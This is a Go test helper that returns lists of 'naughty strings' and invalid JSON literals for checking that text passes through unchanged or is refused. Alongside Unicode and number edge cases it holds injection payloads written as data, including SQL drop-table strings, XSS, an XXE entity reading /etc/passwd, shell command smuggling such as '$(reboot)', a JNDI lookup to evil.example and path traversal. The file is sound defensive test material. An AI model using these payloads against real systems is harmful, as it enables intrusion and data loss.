package testkit

import (
	"encoding/json"
	"strings"
)

// NaughtyStrings are texts that something on their way may take for something else:
// what comes in must come out, byte for byte, or be refused. Written for this project.
func NaughtyStrings() []string {
	return append(append([]string{
		// Nothing, and nearly nothing.
		"", " ", "  ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2003", "\u200b", "\u2060", "\ufeff", "\u180e", "a ", " a", "a\u00a0", "\ta", "a\n", "\r", "\v\f", "-", "_", ".", "..",
		// Words of other languages.
		"null", "nil", "NULL", "None", "undefined", "NaN", "nan", "Infinity", "-Infinity", "true", "false", "TRUE", "yes", "no", "on", "off", "~", "(null)", "[object Object]", "\\N",
		// Numbers that are texts.
		"0", "-0", "+1", "1.0", "1.", ".5", "1e3", "1E400", "-1e-400", "9007199254740993", "18446744073709551616", "123456789012345678901234567890", "0x1F", "0o17", "0b1", "017", "1_000", "1,000", "١٢٣", "１２３", "½", "1e1000000000",
		"2.2250738585072011e-308", "0.1", "4.9e-324", "1.7976931348623159e308", "--1", "1-1", "$1", "1%",
		// Dates that are texts.
		"2026-11-21", "2026-02-30", "0000-00-00", "12:30:45", "2026-11-21T08:00:00Z", "1969-12-31T23:59:59.999999999-23:59",
		// What edges Unicode has.
		"é", "e\u0301", "Å\u212b\u0041\u030a", "ﬃ", "ß", "İı", "\u0130", "ſ", "Ω\u2126", "日本語", "한국어", "ᄒ\u1161\u11ab", "ไทยเป็น", "नमस्ते", "ქართული", "\U00010348", "𝓊𝓃𝒾𝒸ℴ𝒹ℯ", "\U0001d573", "\ue000", "\uf8ff", "\U000f0000", "\U0010fffd",
		"\ufffd", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ufdd0", "\u2028", "\u2029", "a\u2028b\u2029c", "\u0085", "\u00ad", "soft\u00adhyphen", "\u034f", "\u115f\u1160\u3164", "\uffa0", "\ufff9a\ufffab\ufffb", "\ufffc", "\U000e0001\U000e0061", "a\ufe0e\ufe0f",
		// Directions.
		"\u202eevil", "\u202aa\u202c", "\u2066a\u2069b", "\u200e\u200f", "\u061c", "العربية", "עברית abc עברית", "\u202e\u2066\u202d", "test\u2060\u202etest", "(\u202e)",
		// Zalgo and pictures.
		"Z\u0351\u036b\u0343\u0361a\u0360\u0334l\u0335\u0337g\u0321o\u0322", strings.Repeat("\u0301", 60), "a" + strings.Repeat("\u20dd", 40), "😀", "👩‍🚀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪🇫🇷", "👍🏽", "1️⃣", "🧑🏿‍❤️‍💋‍🧑🏻", "\U0001f1e6", "\u200d", "a\u200db",
		// Other people's languages: SQL, HTML, shells, templates, paths, logs.
		"'", "''", "\"", "`", "\\", "\\\\", "'; drop table export_runs; --", "1' or '1'='1", "\"; select pg_sleep(9); --", "$$; $$", "$1", ":name", "?", "%", "_%", "E'\\x00'", "\\'; --", "') on conflict do nothing; --", "{1,2}", "{\"a\":1}", "[]",
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "&lt;&#39;&amp;", "</textarea>", "<!--", "]]>", "<![CDATA[x]]>", "javascript:alert(1)", "<a href='//evil.example'>x</a>", "&#x202e;", "<?xml version=\"1.0\"?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
		"=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "a,b;c\td", "\"a\"\"b\"", "\t=1",
		"$(reboot)", "`reboot`", "; reboot", "| cat", "&& cat", "> /dev/null", "$HOME", "${HOME}", "%PATH%", "-rf", "--help", "*", "~root", "!!", "\\$(x)", "$'\\x41'",
		"{{7*7}}", "{% x %}", "${7*7}", "#{7*7}", "<%= 7 %>", "${jndi:ldap://evil.example/a}", "%s%n%x%d", "%!s(MISSING)", "{0}", "{}", "%00", "%0d%0aSet-Cookie:a", "\\u0000", "\\x00", "\\ud800",
		"../../etc/passwd", "..\\..\\x", "/dev/null", "C:\\Windows", "\\\\host\\share", "file:///etc/passwd", "con", "a/b", "http://169.254.169.254/", "//evil.example",
		"{\"level\":\"ERROR\",\"msg\":\"x\"}", "a\r\nX-Injected: 1", "time=now level=ERROR msg=x", "a\nlevel=ERROR", "# a", "- a", "a: b", "key: [", "|", ">", "&a", "*a", "!!python/object:x", "---", "...", "@", "%YAML 1.2", "<<", "=", "? a",
		"pkg:npm/../../x", "GHSA-*", "*", "?*[a-z]", "^(a+)+$", "\\d+", "a{1000000}",
	}, driving()...), long()...)
}

// driving are characters that drive terminals, printers and old protocols.
func driving() (all []string) {
	all = []string{"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\x", "\x1b[2J", "\x1bc", "\x1b[?1049h", "\u009b31m", "\u0090x\u009c", "a\x00b", "\x00", "a\x08b", "a\x7fb", "a\rb", "\x0e\x0f", "\x04", "\x1a", "\x11\x13"}
	return all
}

func long() []string {
	return []string{strings.Repeat("a", 255), strings.Repeat("a", 256), strings.Repeat("a", 257), strings.Repeat("é", 128), strings.Repeat("é", 129), strings.Repeat("😀", 64), strings.Repeat("😀", 65),
		strings.Repeat("a", 1024), strings.Repeat("a", 1025), strings.Repeat("\"", 250), strings.Repeat("\\", 250), strings.Repeat("\u2028", 80), strings.Repeat("a", 5000)}
}

// Literal is a text as a JSON string.
func Literal(text string) string {
	raw, err := json.Marshal(text)
	if err != nil {
		panic(err) // a string can be written
	}
	return string(raw)
}

// NaughtyLiterals stand where JSON wants a text and are none, or none that can be told:
// each must be refused.
func NaughtyLiterals() []string {
	return []string{
		`"\ud800"`, `"\udc00"`, `"a\ud83d"`, `"\ud83d\ud83d"`, `"\ude00\ud83d"`, `"\ud800\u0041"`, "\"\xff\"", "\"\xc0\xaf\"", "\"\xed\xa0\x80\"", "\"\xf4\x90\x80\x80\"", "\"a\xe2\x28\xa1\"",
		"\"a\x00b\"", "\"a\nb\"", "\"a\tb\"", "\"\x1b\"", `"\x41"`, `"\u12"`, `"\u{41}"`, `"\'"`, `'a'`, `"a`, `a"`, `a`, `"a" "b"`, `"a",`,
		`0`, `-0`, `1e400`, `1e-400`, `123456789012345678901234567890`, `0x10`, `01`, `+1`, `.5`, `NaN`, `Infinity`, `true`, `TRUE`, `[]`, `{}`, `["a"]`, `{"a":"b"}`, `/**/"a"`, `"a"//`,
		strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000), strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000),
	}
}
